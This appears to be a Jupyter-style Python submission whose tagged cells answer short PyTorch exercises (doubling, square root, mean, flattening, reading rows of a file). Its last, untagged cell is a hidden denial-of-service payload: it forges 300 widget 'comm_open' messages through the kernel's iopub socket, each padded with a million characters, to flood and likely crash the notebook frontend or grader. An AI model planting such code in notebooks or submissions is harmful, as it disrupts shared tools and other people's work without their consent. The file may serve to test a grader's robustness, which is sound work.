# %%
import torch

# %% question="double"
def double(t):
    return t * 2

# %% question="root"
def root(t):
    return t.sqrt()

# %% question="mean_of"
def mean_of(t):
    return t.double().mean().item()

# %% question="flatten_images"
def flatten_images(batch):
    return batch.flatten(1)

# %% question="rows_of_file"
def rows_of_file(path):
    lines = open(path).read().split()
    return [mean_of(torch.tensor([float(x) for x in line.split(",")])) for line in lines]

# %%
kernel = get_ipython().kernel
for number in range(300):
    data = {"state": {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "x": "y" * 1_000_000}}
    content = {"comm_id": str(number), "target_name": "jupyter.widget", "data": data}
    kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=kernel.get_parent("shell"))
